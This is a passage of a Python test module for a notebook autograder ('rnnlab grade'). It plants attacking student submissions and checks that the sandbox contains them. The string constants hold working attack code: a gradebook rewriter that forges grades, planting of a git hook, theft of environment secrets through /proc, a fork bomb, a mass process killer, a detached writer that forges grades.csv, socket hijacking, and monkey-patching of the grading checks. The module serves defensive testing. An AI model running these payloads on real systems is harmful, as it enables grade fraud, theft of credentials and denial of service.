"""Students who attack the grader: one class of ex02_lstm, graded once by `rnnlab grade`.

Each attacking student hands in the solved released notebook with the attack in a new
code cell right after the setup cell, or in place of a solution cell; the attacks that
try to forge a grade come with a wrong (or no) implementation, so that only the forgery
could earn points. The attack code names the absolute paths an attacker would guess: the
repository, the grading folder, its gradebook. Every attack prints ``PWNED`` when a step
works and ``refused`` when it does not.

What must hold: each forgery scores what the notebook's honest part deserves, nothing
more; the honest students' grades and feedback are those of a run without the attackers;
the repository, the gradebook and grades.csv hold what the grader wrote and nothing else;
no process of the run outlives it; no feedback shows a hidden test or the gradebook URL.
"""

import contextlib
import hashlib
import io
import os
import re
import secrets
import shutil
import socket
import sqlite3
import subprocess
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell
from test_grading_course import solved
from toy_course import ASSIGNMENT, BIN, REPO, hand_in, html_text, make_course, student

from rnnlab.course.classroom import collect
from rnnlab.course.classroom.grade import GONE
from rnnlab.course.classroom.report import read_csv
from rnnlab.course.classroom.sandbox import CONNECTION

pytestmark = [pytest.mark.grading, pytest.mark.slow]

LSTM = "ex02_lstm"
POINTS = {"test_lstm_cell": 4, "test_lstm_forward": 2, "test_lstm_backward": 4}
MAX = sum(POINTS.values())
OPTIONS = ("--timeout", "240", "--cell-timeout", "40", "--memory", "2", "--jobs", "2")
HONEST = ("honest1", "honest2")
LATE_SLEEP = 20  # seconds the detached process waits before it writes grades.csv
SLEEP_MARKER = "1000.013"  # `sleep 1000.013`: no other process sleeps that long
FORK_MARKER = "rnnlab_fork_bomb_marker"  # $0 of every shell of the fork bomb
LATE_MARKER = "rnnlab_late_writer_marker"  # $0 of the detached late writer
HIDDEN_TEXT = ("hidden=True", "BEGIN HIDDEN TESTS")
DONE = "the attack cell ran to its end"

# The implementations of a forger: wrong (zeros), so a forgery alone could earn points.
ZEROS_CELL = """def lstm_cell(x, state, params):
    h, c = state
    return np.zeros_like(h), np.zeros_like(c)"""
# Ones, not zeros: check_lstm_forward accepts a loop over the student's own (wrong) cell.
ONES_FORWARD = """def lstm_forward(xs, params, state0=None):
    T, B, _ = xs.shape
    H = params["W_hh"].shape[1]
    return np.ones((T, B, H)), (np.ones((B, H)), np.ones((B, H)))"""
ZEROS_BACKWARD = """def lstm_backward(xs, params, d_hs, state0=None):
    grads = {key: np.zeros_like(value) for key, value in params.items()}
    h = np.zeros((xs.shape[1], params["W_hh"].shape[1]))
    return {**grads, "xs": np.zeros_like(xs), "h0": h, "c0": h}"""
ABSENT_CELL = "def lstm_cell(x, state, params):\n    raise NotImplementedError()"
ABSENT_BACKWARD = (
    "def lstm_backward(xs, params, d_hs, state0=None):\n    raise NotImplementedError()"
)


@dataclass
class Attack:
    """One attacking student: a cell after the setup cell, replaced answers, and
    notebook metadata of its own."""

    cell: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    metadata: dict = field(default_factory=dict)
    nbgrader: dict[str, dict] = field(default_factory=dict)  # new metadata, by grade_id
    cell_nbgrader: dict | None = None  # the nbgrader metadata of the attack's cell


def _wrong(cell: str, forward: str = ONES_FORWARD) -> Attack:
    answers = {"lstm_cell": ZEROS_CELL, "lstm_forward": forward, "lstm_backward": ZEROS_BACKWARD}
    return Attack(cell, answers)


GRADEBOOK_WRITER = """
import os, sqlite3
for path in (GRADEBOOK, REPO + "/gradebook.db"):
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 990, extra_credit = 990")
        db.execute(
            "UPDATE grade SET manual_score = 0, extra_credit = 0 WHERE notebook_id IN"
            " (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s"
            " ON n.assignment_id = s.id WHERE s.student_id = 'honest1')"
        )
        db.commit()
        print("PWNED: wrote", path)
    except Exception as error:
        print("refused:", path, type(error).__name__, error)
    try:
        os.remove(path)
        print("PWNED: removed", path)
    except OSError as error:
        print("refused:", path, error)
"""

FILE_REWRITER = """
import json, os
for path in (REPO + "/solutions/ex02_lstm/ex02_lstm.ipynb",
             OUT + "/solutions/ex02_lstm/ex02_lstm.ipynb"):
    try:
        with open(path) as f:
            nb = json.load(f)
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["source"] = "pass"
        print("PWNED: read", path)
    except Exception as error:
        print("refused: read", path, type(error).__name__, error)
        nb = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    try:
        with open(path, "w") as f:
            json.dump(nb, f)
        print("PWNED: rewrote", path)
    except Exception as error:
        print("refused: write", path, type(error).__name__, error)
for path in (REPO + "/nbgrader_config.py", OUT + "/nbgrader_config.py"):
    try:
        with open(path, "a") as f:
            f.write("\\nc.ExecutePreprocessor.allow_errors = True\\n")
        print("PWNED: appended to", path)
    except Exception as error:
        print("refused:", path, type(error).__name__, error)
hook = REPO + "/.git/hooks/pre-commit"
try:
    with open(hook, "w") as f:
        f.write("#!/bin/sh\\necho owned > /tmp/owned\\n")
    os.chmod(hook, 0o755)
    print("PWNED: planted", hook)
except Exception as error:
    print("refused:", hook, type(error).__name__, error)
"""

SOLUTION_READER = """
import glob, os, sqlite3
for pattern in (REPO + "/solutions/*/*.ipynb", OUT + "/solutions/*/*.ipynb",
                OUT + "/.rnnlab/release/*/*.ipynb", REPO + "/rnnlab/course/grading/*.py",
                "/home/*/*", "/tmp/*", "/run/*", "/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            with open(path) as f:
                text = f.read()
            leaked = "BEGIN " + "HIDDEN" in text or "hidden" + "=True" in text
            print("PWNED:" if leaked else "read:", path, len(text))
        except OSError as error:
            print("read:", path, error)
    print("refused:", pattern, "matches", len(glob.glob(pattern)))
try:
    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True)
    for (source,) in db.execute("SELECT source FROM source_cell"):
        print("PWNED:", source)
except Exception as error:
    print("refused:", GRADEBOOK, type(error).__name__, error)
import rnnlab.course.grading
print("read: the kernel's rnnlab.course.grading is", rnnlab.course.grading.__file__)
"""

IN_DUMPER = """def lstm_cell(x, state, params):
    history = get_ipython().user_ns["In"]
    print(history[-1])
    raise RuntimeError("\\n".join(history))"""

GRADING_PATCH = """
import rnnlab.course.grading
def _passed(*args, **kwargs):
    return None
for checks in (rnnlab.course.grading, grading):
    checks.check_lstm_cell = checks.check_lstm_forward = checks.check_lstm_backward = _passed
print("refused? the checks now return", grading.check_lstm_cell(None))
"""

NUMPY_PATCH = """
def _true(*args, **kwargs):
    return True
np.allclose = np.array_equal = np.array_equiv = _true
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
print("refused? np.allclose(0, 1) is now", np.allclose(0, 1))
"""

TRANSFORMER = """
def _blank_checks(lines):
    return [] if any("grading." in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank_checks)
print("refused? the kernel now blanks every cell that calls the checks")
"""

REFERENCE_LOADER = """import importlib.util
try:
    spec = importlib.util.spec_from_file_location("my_lstm", REPO + "/rnnlab/lstm.py")
    reference = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(reference)
    lstm_cell = reference.cell
    print("PWNED: loaded", spec.origin)
except Exception as error:
    print("refused:", type(error).__name__, error)
try:
    from rnnlab import lstm
    lstm_cell = lstm.cell
    print("PWNED: from rnnlab import lstm")
except Exception as error:
    print("refused:", type(error).__name__, error)
if "lstm_cell" not in globals():
    def lstm_cell(x, state, params):
        raise NotImplementedError()"""

TORCH_USER = """import sys
try:
    import torch
    print("PWNED: import torch")
except ImportError as error:
    print("refused:", error)
    sys.path.append(REPO + "/.venv/lib/python3.11/site-packages")

def lstm_cell(x, state, params):
    import torch
    cell = torch.nn.LSTMCell(x.shape[1], state[0].shape[1], dtype=torch.float64)
    names = {"W_ih": "weight_ih", "W_hh": "weight_hh", "b_ih": "bias_ih", "b_hh": "bias_hh"}
    with torch.no_grad():
        for ours, theirs in names.items():
            getattr(cell, theirs).copy_(torch.from_numpy(params[ours]))
        h, c = cell(torch.from_numpy(x).double(),
                    tuple(torch.from_numpy(s).double() for s in state))
    return h.numpy().astype(x.dtype), c.numpy().astype(x.dtype)"""

LATE_WRITER = f"""
import os, time
script = (
    "sleep {LATE_SLEEP}; for f in '" + OUT + "/grades.csv' '" + REPO + "/grades.csv'; do "
    "printf 'student,assignment,score\\\\nlate_writer,ex02_lstm,10\\\\n' > \\"$f\\" "
    "&& echo PWNED: $f; done"
)
print("LATE_START=%.3f" % time.time())
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", script, "{LATE_MARKER}"])
    os._exit(0)
os.waitpid(pid, 0)
print("refused? the detached writer is on its way")
"""

FORK_BOMB = f"""
import os, subprocess, threading, time
try:
    subprocess.Popen(["/bin/sh", "-c", "b() {{ b | b & }}; b", "{FORK_MARKER}"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError as error:
    print("refused: the shell's fork bomb", error)
try:
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                pass
except OSError as error:
    print("refused: fork", error)
threads = []
try:
    for _ in range(100_000):
        thread = threading.Thread(target=time.sleep, args=(1000,), daemon=True)
        thread.start()
        threads.append(thread)
    print("PWNED: 100000 threads")
except RuntimeError as error:
    print("refused: threads after", len(threads), error)
"""

KILLER = """
import os, signal
me, killed = {int(tid) for tid in os.listdir("/proc/self/task")}, []  # its own threads
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in me | {1}:
        try:
            os.kill(int(name), signal.SIGKILL)
            killed.append(int(name))
        except OSError as error:
            print("refused:", name, error)
for pid in range(2, 70_000):
    if pid not in me and pid not in killed:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
print("refused: the only processes it could kill were its own sandbox's:", killed)
"""

SLEEPER = f"""
import subprocess
sleeper = subprocess.Popen(["sleep", "{SLEEP_MARKER}"], start_new_session=True)
print("refused? started sleep", sleeper.pid)
"""

DISK_FILLER = """
import contextlib, os
chunk = b"x" * 2**20
for path in ("/home/student/big.bin", "/tmp/big.bin",
             OUT + "/feedback/disk_filler/ex02_lstm/big.bin", OUT + "/feedback/big.bin"):
    written = 0
    try:
        with open(path, "wb") as f:
            while written < 2 * 2**30:
                f.write(chunk)
                written += len(chunk)
        print("PWNED: wrote 2 GiB to", path)
    except OSError as error:
        print("refused:", path, "after", written // 2**20, "MiB:", error)
    with contextlib.suppress(OSError):
        os.remove(path)
"""

MEMORY_RAISER = """
import resource
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("PWNED: RLIMIT_AS raised")
except (ValueError, OSError) as error:
    print("refused: setrlimit", error)
try:
    big = np.ones(5 * 2**30, dtype=np.uint8)
    print("PWNED: 5 GiB allocated", big.nbytes)
    del big
except MemoryError as error:
    print("refused:", error)
"""

ENVIRON_READER = """
import glob
url = []
for path in sorted(set(glob.glob("/proc/*/environ")) | {"/proc/1/environ"}):
    try:
        with open(path, "rb") as f:
            entries = f.read().split(b"\\0")
    except OSError as error:
        print("refused:", path, error)
        continue
    print("read:", path, len(entries), "variables")
    for entry in entries:
        name = entry.partition(b"=")[0]
        if name.startswith(b"RNNLAB_") or name == b"PGPASSWORD":
            print("PWNED:", path, entry.decode(errors="replace"))
        url += [entry] if name == b"RNNLAB_DB_URL" else []
if not url:
    print("refused: RNNLAB_DB_URL is in no environment it can read")
"""

SOCKET_CALLER = """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", TCP_PORT)),
                        (socket.AF_UNIX, HOST_SOCKET), (socket.AF_UNIX, ABSTRACT_SOCKET)):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(b"PWNED")
            print("PWNED: connected to", address)
    except OSError as error:
        print("refused:", address, error)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("PWNED: name resolution works")
except OSError as error:
    print("refused: getaddrinfo", error)
"""

PEEKER = """import glob, json
found = {}
for pattern in ("../../submitted/honest1/ex02_lstm/ex02_lstm.ipynb",
                "../../autograded/*/ex02_lstm/ex02_lstm.ipynb",
                OUT + "/submitted/*/ex02_lstm/ex02_lstm.ipynb",
                OUT + "/autograded/*/ex02_lstm/ex02_lstm.ipynb",
                "/home/*/*.ipynb", "/tmp/**/*.ipynb", "/*.ipynb", "../*/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path) as f:
                cells = json.load(f)["cells"]
            found[path] = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
            print("PWNED: read", path)
        except Exception as error:
            print("read failed:", path, error)
print("refused: found", len(found), "notebooks of others")
for sources in found.values():
    for source in sources:
        if source.startswith("def lstm_cell"):
            exec(source)
if "lstm_cell" not in globals():
    def lstm_cell(x, state, params):
        raise NotImplementedError()"""

CHATTERBOX = """
line = "y" * (2**20 - 1)
for _ in range(50):
    print(line)
print("refused? printed 50 MiB")
"""

HUGE_RETURN = """def lstm_cell(x, state, params):
    return np.zeros((8192, 8192)), np.zeros((8192, 8192))  # 512 MiB each"""

FAKE_EQUAL = """class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_finalize__(self, obj):
        pass

class Anything:
    shape, dtype = None, np.dtype("float64")
    def __eq__(self, other):
        return True

def lstm_cell(x, state, params):
    h, c = state
    if h.shape[0] == 1:  # an object that equals everything
        return Anything(), Anything()
    return np.zeros_like(h).view(AlwaysEqual), np.zeros_like(c).view(AlwaysEqual)"""

SOCKET_SWAPPER = """
import json, os, socket, time
with open("/run/connection.json") as f:
    info = json.load(f)
ports = [info[k] for k in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")]
for port in ports:
    path = f"/run/kernel/k-{port}"
    try:
        os.remove(path)
        os.symlink(HOST_SOCKET, path)
        print("swapped", path)
    except OSError as error:
        print("refused:", path, error)
# Cut the heartbeat's connection: the grader's heartbeat then connects again, to the link.
heartbeat, cut = f"/run/kernel/k-{info['hb_port']}", 0
for fd in os.listdir("/proc/self/fd"):
    try:
        s = socket.socket(fileno=os.dup(int(fd)))
    except OSError:
        continue  # not a socket
    with s:
        try:
            if s.family == socket.AF_UNIX and s.getsockname() == heartbeat:
                s.getpeername()  # the listening socket has none: OSError
                s.shutdown(socket.SHUT_RDWR)
                cut += 1
        except OSError:
            pass
print("cut", cut, "heartbeat connections")
time.sleep(5)
"""

BLOCKS_FOREVER = """import time

def lstm_cell(x, state, params):
    while True:
        time.sleep(1000)"""


def _nbgrader(grade_id: str, points: int | None = None, **flags) -> dict:
    meta = {"grade_id": grade_id, "grade": points is not None, "solution": False}
    meta |= {"locked": False, "schema_version": 3, **flags}
    return meta | ({"points": points} if points is not None else {})


METADATA_FORGER = Attack(
    'print("refused? this cell is now a test cell worth 100 points")',
    {"lstm_cell": ZEROS_CELL, "lstm_forward": ONES_FORWARD, "lstm_backward": ZEROS_BACKWARD},
    nbgrader={
        "lstm_cell": _nbgrader("lstm_cell", 100, solution=True),
        "test_lstm_cell": _nbgrader("test_lstm_cell"),
        "test_lstm_forward": _nbgrader("test_lstm_forward", 0),
        "test_lstm_backward": _nbgrader("test_lstm_backward", 0),
    },
    cell_nbgrader=_nbgrader("bonus", 100, locked=True),
)


def _attacks() -> dict[str, Attack]:
    """Every attacking student, by name (the name says the attack)."""
    attacks = {
        "gradebook_writer": Attack(GRADEBOOK_WRITER, {"lstm_cell": ABSENT_CELL}),
        "file_rewriter": Attack(FILE_REWRITER, {"lstm_cell": ABSENT_CELL}),
        "solution_reader": Attack(SOLUTION_READER),
        "in_dumper": Attack(answers={"lstm_cell": IN_DUMPER}),
        "grading_patch": _wrong(GRADING_PATCH),
        "numpy_patch": _wrong(NUMPY_PATCH),
        "transformer": _wrong(TRANSFORMER),
        "reference_loader": Attack(answers={"lstm_cell": REFERENCE_LOADER}),
        # The notebook asks for torch as a course notebook would: only the course's counts.
        "torch_user": Attack(
            answers={"lstm_cell": TORCH_USER}, metadata={"rnnlab": {"needs": ["torch"]}}
        ),
        "late_writer": Attack(LATE_WRITER),
        "fork_bomb": Attack(FORK_BOMB),
        "killer": Attack(KILLER),
        "sleeper": Attack(SLEEPER),
        "disk_filler": Attack(DISK_FILLER),
        "memory_raiser": Attack(MEMORY_RAISER),
        "environ_reader": Attack(ENVIRON_READER),
        "socket_caller": Attack(SOCKET_CALLER),
        "peeker": Attack(answers={"lstm_cell": PEEKER}),
        "chatterbox": Attack(CHATTERBOX),
        "huge_return": Attack(answers={"lstm_cell": HUGE_RETURN}),
        "fake_equal": Attack(answers={"lstm_cell": FAKE_EQUAL}),
        "socket_swapper": Attack(SOCKET_SWAPPER),
        "blocks_forever": Attack(answers={"lstm_cell": BLOCKS_FOREVER}),
        "metadata_forger": METADATA_FORGER,
    }
    for name in FORGERIES:  # a forger's own answers earn nothing: lstm_backward neither
        attacks[name].answers.setdefault("lstm_backward", ABSENT_BACKWARD)
    return attacks


@dataclass
class Target:
    """What the attacks aim at: the grading folder, and sockets of the host that a test
    listens on (a TCP port, a unix socket file, an abstract unix socket)."""

    out: Path
    host_socket: Path
    abstract_socket: str
    tcp_port: int

    def header(self) -> str:
        """The attack cell's first lines: the absolute paths the attacker guessed."""
        return (
            f"REPO = {str(REPO)!r}\n"
            f"OUT = {str(self.out)!r}\n"
            f"GRADEBOOK = {str(self.out / 'gradebook.db')!r}\n"
            f"HOST_SOCKET = {str(self.host_socket)!r}\n"
            f"ABSTRACT_SOCKET = {self.abstract_socket!r}\n"
            f"TCP_PORT = {self.tcp_port}\n"
        )


def _grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def attacked(attack: Attack, target: Target) -> nbformat.NotebookNode:
    """The solved released notebook with the attack's cell after the setup cell, and its
    answers and metadata in place of the solution's."""
    nb = solved(LSTM)
    nb.metadata.update(attack.metadata)
    for cell in nb.cells:
        grade_id = _grade_id(cell)
        if grade_id in attack.answers:
            cell.source = attack.answers[grade_id]
        if grade_id in attack.nbgrader:
            cell.metadata["nbgrader"] = attack.nbgrader[grade_id]
    cell = new_code_cell(f"{target.header()}{attack.cell}\nprint({DONE!r})")
    if attack.cell_nbgrader:
        cell.metadata["nbgrader"] = attack.cell_nbgrader
    setup = next(k for k, cell in enumerate(nb.cells) if _grade_id(cell) == "setup")
    nb.cells.insert(setup + 1, cell)
    return nb


def _zipped(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{LSTM}/{LSTM}.ipynb", content)
    return buffer.getvalue()


def _patched(data: bytes, *, flags: int = 0, method: int | None = None) -> bytes:
    """The one-member zip ``data`` with flag bits set or another compression method, in
    its local header and in the central directory (where zipfile reads them)."""
    data = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature) + offset
        data[at : at + 2] = (int.from_bytes(data[at : at + 2], "little") | flags).to_bytes(
            2, "little"
        )
        if method is not None:
            data[at + 2 : at + 4] = method.to_bytes(2, "little")
    return bytes(data)


LONG_NAME = "a" * 253
# The student column of an invalid entry, and words its reason must hold.
INVALID = {
    "deep_json": "not a notebook: the JSON is nested too deeply to read",
    "bad_crc": f"{LSTM}/{LSTM}.ipynb cannot be read (Bad CRC-32 for file",
    "encrypted": f"{LSTM}/{LSTM}.ipynb in encrypted.zip is encrypted; hand in a zip without",
    "unknown_method": f"{LSTM}/{LSTM}.ipynb in unknown_method.zip is compressed with method 99",
    repr(f"{LONG_NAME[:24]}…{LONG_NAME[-8:]}"): "(253 characters) is not a usable student id",
    "symlinked_file": f"symlinked_file/{LSTM}.ipynb is a symbolic link; hand in the file",
    "symlinked_folder": "symlinked_folder is a symbolic link; hand in the file itself",
    "...": "the name '...' is not a usable student id",
}


def hand_in_invalid(folder: Path) -> None:
    """The entries that once stopped the whole run, each a student of its own."""
    content = nbformat.writes(solved(LSTM)).encode()
    nested = b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    hand_in(folder, "deep_json", nested, LSTM)
    corrupt = _zipped(content).replace(b"def lstm_cell", b"def lstm_ce11", 1)
    (folder / "bad_crc.zip").write_bytes(corrupt)
    (folder / "encrypted.zip").write_bytes(_patched(_zipped(content), flags=0x1))
    (folder / "unknown_method.zip").write_bytes(_patched(_zipped(content), method=99))
    hand_in(folder, LONG_NAME, content, LSTM)
    source = REPO / "solutions" / LSTM / f"{LSTM}.ipynb"
    (folder / "symlinked_file").mkdir()
    (folder / "symlinked_file" / f"{LSTM}.ipynb").symlink_to(source)
    (folder / "symlinked_folder").symlink_to(source.parent)
    hand_in(folder, "...", content, LSTM)


class Listener:
    """Sockets of the host that no kernel may reach; records every connection made.

    A connection is kept open until ``close``: a ZMQ socket whose peer hangs up may block
    for good, and the run would wait for its --timeout (see socket_swapper's test).
    """

    def __init__(self, folder: Path):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.path = folder / "host.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(self.path))
        self.abstract_name = f"\0rnnlab-attack-{secrets.token_hex(4)}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(self.abstract_name)
        for server in (self.unix, self.abstract):
            server.listen()
        self.connections: list[tuple[str, bytes]] = []
        self._open: list[socket.socket] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        servers = {self.tcp: "tcp", self.unix: "unix", self.abstract: "abstract"}
        for server in servers:
            server.settimeout(0.2)
        while not self._stop.is_set():
            for server, kind in servers.items():
                with contextlib.suppress(TimeoutError):
                    connection, _ = server.accept()
                    self._open.append(connection)
                    connection.settimeout(1)
                    try:
                        data = connection.recv(200)
                    except OSError:
                        data = b""
                    self.connections.append((kind, data))

    def target(self, out: Path) -> Target:
        return Target(out, self.path, self.abstract_name, self.tcp.getsockname()[1])

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        for server in (self.tcp, self.unix, self.abstract, *self._open):
            server.close()


# Left out of the repository's snapshot: what tools rebuild (caches, the venv, the book's
# build), and git's own bookkeeping (objects, index, refs, logs), which `git status` and
# the engineer's commits rewrite; .git keeps what would run code: config, hooks, info.
SKIPPED = {".venv", "_build", "node_modules", "_vendor", ".pytest_cache", ".hypothesis",
           "__pycache__", ".ruff_cache"}  # fmt: skip
GIT_KEPT = {"config", "hooks", "info", "HEAD"}


def repo_snapshot() -> dict[str, str]:
    """The sha256 of every file of the repository (a link: of its target's name)."""
    found = {}
    for top, dirs, names in os.walk(REPO):
        here = Path(top)
        dirs[:] = [
            name
            for name in dirs
            if name not in SKIPPED
            and not name.endswith(".egg-info")
            and (here.name != ".git" or here.parent != REPO or name in GIT_KEPT)
        ]
        for name in names:
            path = here / name
            rel = path.relative_to(REPO).as_posix()
            if rel in ("gradebook.db", "gradebook.db-journal"):
                continue  # git-ignored; nbgrader run by hand at the root may touch it
            if rel.startswith(".git/") and rel.split("/")[1] not in GIT_KEPT:
                continue
            data = os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
            found[rel] = hashlib.sha256(data).hexdigest()
    return found


def _of_this_test(cmdline: str, base: Path) -> bool:
    """Whether a command line is that of a sandboxed kernel (or a process it forked), of a
    sandbox made from a grading folder under ``base``, or of an attack's process."""
    kernel = "ipykernel_launcher" in cmdline and CONNECTION in cmdline
    box = "bwrap" in cmdline and str(base) in cmdline  # its rnnlab is in the grading folder
    return kernel or box or any(m in cmdline for m in (SLEEP_MARKER, FORK_MARKER, LATE_MARKER))


def leftovers(since: float, drivers: list[int], base: Path) -> list[str]:
    """The kernels, sandboxes and attack processes started since ``since`` that are still
    there: left over from the runs of ``drivers``, unless they are in the cgroup of
    another rnnlab grade that is still running (a kernel's cgroup holds its driver's pid)."""
    found = []
    for process in psutil.process_iter(["pid", "cmdline", "create_time"]):
        cmdline = " ".join(process.info["cmdline"] or [])
        if process.info["create_time"] < since or not _of_this_test(cmdline, base):
            continue
        try:
            cgroups = Path(f"/proc/{process.pid}/cgroup").read_text()
        except OSError:
            continue  # gone meanwhile
        others = {int(pid) for pid in re.findall(r"rnnlab-(\d+)", cgroups)} - set(drivers)
        if not any(psutil.pid_exists(pid) for pid in others):
            found.append(f"{process.pid}: {cmdline[:200]}")
    return found


def cgroups_left(drivers: list[int]) -> list[Path]:
    """The cgroup folders of the runs of ``drivers`` that still exist."""
    roots = [Path("/sys/fs/cgroup/pids"), Path("/sys/fs/cgroup")]
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        if "memory" in controllers.split(","):
            roots.append(Path("/sys/fs/cgroup/memory") / path.lstrip("/"))
    folders = [root / f"rnnlab-{pid}" for root in roots for pid in drivers]
    return [folder for folder in folders if folder.exists()]


@dataclass
class Run:
    """One `rnnlab grade` command, and its grades.csv as it ended (by student)."""

    done: subprocess.CompletedProcess
    pid: int
    out: Path
    seconds: float
    rows: dict = field(default_factory=dict)


class Grading:
    """``rnnlab grade FOLDER --out OUT`` started from ``root``, with ``env`` added to the
    environment (RNNLAB_DB_URL only when given there)."""

    def __init__(self, folder: Path, out: Path, root: Path = REPO, env: dict | None = None):
        environ = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}
        environ.pop("RNNLAB_DB_URL", None)
        environ.update(env or {})
        self.command = [str(BIN / "rnnlab"), "grade", str(folder), "--out", str(out), *OPTIONS]
        self.out, self.start = out, time.monotonic()
        self.process = subprocess.Popen(
            self.command,
            cwd=root,
            env=environ,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def wait(self) -> Run:
        stdout, stderr = self.process.communicate(timeout=1500)
        done = subprocess.CompletedProcess(self.command, self.process.returncode, stdout, stderr)
        run = Run(done, self.process.pid, self.out, time.monotonic() - self.start)
        if done.returncode in (0, 1):
            run.rows = {row.student: row for row in read_csv(self.out / "grades.csv")}
        return run


def run_grade(folder: Path, out: Path, root: Path = REPO, env: dict | None = None) -> Run:
    return Grading(folder, out, root, env).wait()


def outputs(out: Path, name: str) -> str:
    """Every output of a student's autograded notebook, as text ("" if none)."""
    path = out / "autograded" / name / LSTM / f"{LSTM}.ipynb"
    if not path.exists():
        return ""
    texts = []
    for cell in nbformat.read(path, as_version=4).cells:
        for output in cell.get("outputs", []):
            texts.append(output.get("text", "") + output.get("evalue", ""))
            texts.extend(str(v) for v in output.get("data", {}).values())
    return "\n".join(texts)


@dataclass
class Graded:
    """The attacked class, graded once, and everything the tests compare it with."""

    run: Run
    clean: Run
    env: dict
    before: dict
    after: dict
    grades_csv: bytes  # right after the run
    grades_csv_later: bytes  # once the late writer would have written
    left_at_end: list
    left_later: list
    cgroups_at_end: list
    connections: list
    late_start: float | None
    since: float  # when the fixture started


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Graded:
    base = tmp_path_factory.mktemp("attacks")
    since = time.time() - 1
    listener = Listener(base)
    try:
        out, clean_out = base / "grading", base / "clean"
        target = listener.target(out)
        folder, clean_folder = base / "class", base / "clean_class"
        for name in HONEST:
            for where in (folder, clean_folder):
                hand_in(where, name, solved(LSTM), LSTM, layout="nested")
        for name, attack in _attacks().items():
            hand_in(folder, name, attacked(attack, target), LSTM)
        hand_in_invalid(folder)
        secret_env = {
            "RNNLAB_COURSE_SECRET": f"course-secret-{secrets.token_hex(8)}",
            "PGPASSWORD": f"instructor-password-{secrets.token_hex(8)}",
        }
        env = {
            **secret_env,
            # A timeout no default has: the URL is recognisable wherever it turns up.
            "RNNLAB_DB_URL": f"sqlite:///{out / 'gradebook.db'}?timeout=60.4242",
        }
        before = repo_snapshot()
        # Both at once: the clean run is small, and the class leaves a core idle at times.
        clean_grading, grading = (
            Grading(clean_folder, clean_out, env=secret_env),
            Grading(folder, out, env=env),
        )
        clean, run = clean_grading.wait(), grading.wait()
        grades_csv = (out / "grades.csv").read_bytes()
        drivers = [run.pid, clean.pid]
        left_at_end, cgroups_at_end = leftovers(since, drivers, base), cgroups_left(drivers)
        found = re.search(r"LATE_START=([0-9.]+)", outputs(out, "late_writer"))
        late_start = float(found.group(1)) if found else None
        time.sleep(max(0.0, (late_start or time.time()) + LATE_SLEEP + 5 - time.time()))
        return Graded(
            run=run,
            clean=clean,
            env=env,
            before=before,
            after=repo_snapshot(),
            grades_csv=grades_csv,
            grades_csv_later=(out / "grades.csv").read_bytes(),
            left_at_end=left_at_end,
            left_later=leftovers(since, drivers, base),
            cgroups_at_end=cgroups_at_end,
            connections=list(listener.connections),
            late_start=late_start,
            since=since,
        )
    finally:
        listener.close()


NOT_IMPLEMENTED = (
    "test_lstm_cell 0/4: NotImplementedYetError: lstm_cell is not implemented yet",
    "test_lstm_forward 0/2: NotImplementedYetError: lstm_forward is not implemented yet",
    "test_lstm_backward 0/4: NotImplementedYetError: lstm_backward is not implemented yet",
)
WRONG = (
    "test_lstm_cell 0/4: AssertionError: lstm_cell: wrong values in h: the largest difference",
    "test_lstm_forward 0/2: AssertionError: lstm_forward",
)
OWN_RUN_PASSED = "test_lstm_cell: the notebook's own run passed, the grader's checks decide"
# What each attack's notebook earns: (score, words its reason holds), all `graded`.
FORGERIES = {
    "gradebook_writer": NOT_IMPLEMENTED,
    "file_rewriter": NOT_IMPLEMENTED,
    "in_dumper": (
        "test_lstm_cell 0/4: AssertionError: lstm_cell raised RuntimeError: ",
        "test_lstm_forward 0/2: AssertionError: lstm_forward raised RuntimeError: ",
    ),
    "grading_patch": WRONG,
